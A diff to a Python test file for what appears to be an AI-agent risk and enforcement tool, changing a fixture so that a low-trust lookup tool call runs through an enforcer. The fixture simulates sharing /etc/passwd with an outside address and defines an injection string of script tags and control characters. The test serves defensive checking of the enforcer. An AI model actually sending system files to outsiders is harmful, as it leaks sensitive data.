@@ -11,14 +11,14 @@ from itertools import pairwise
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from score_world import act, history, in_force, model_file, opened
+from score_world import act, history, in_force, model_file, opened, tool
 
 from halo_core.errors import Denied
 from halo_core.model import EntryKind
 from halo_core.views.risk import RiskHistory, ScoredAction, SessionSpan, group_actions, group_limits
 from halo_core.views.risk import build_history as read
 from halo_core.views.risk_chart import draw_risk_chart
-from halo_world import cli, found
+from halo_world import SURFACE, Calls, cli, found
 
 EVIL = '<script>x</script>&"\x1b[31m\u202e'
 SIZES = [1, 2, 20, 130, 131, 2000, 20_000]
@@ -143,7 +143,8 @@ def lived(tmp_path_factory):
     with opened(home) as halo:
         for session in ("one", "two", "one"):
             with halo.session(session, request="share a report with the team"), suppress(Denied):
-                act(halo, "lookup", q="ana")
+                exposing = tool(halo, "lookup", "q", source_trust=300)
+                halo.enforcer.run(halo.build_call(exposing, {"q": "ana"}), Calls(), SURFACE)
                 act(halo, "share", to="eve@elsewhere.example", file="/etc/passwd")
     assert cli("baseline", "drop", "desk", home=home)[0] == 0
     assert cli("baseline", "fit", "desk", "--model", str(model_file(home.parent)), home=home)[0] == 0
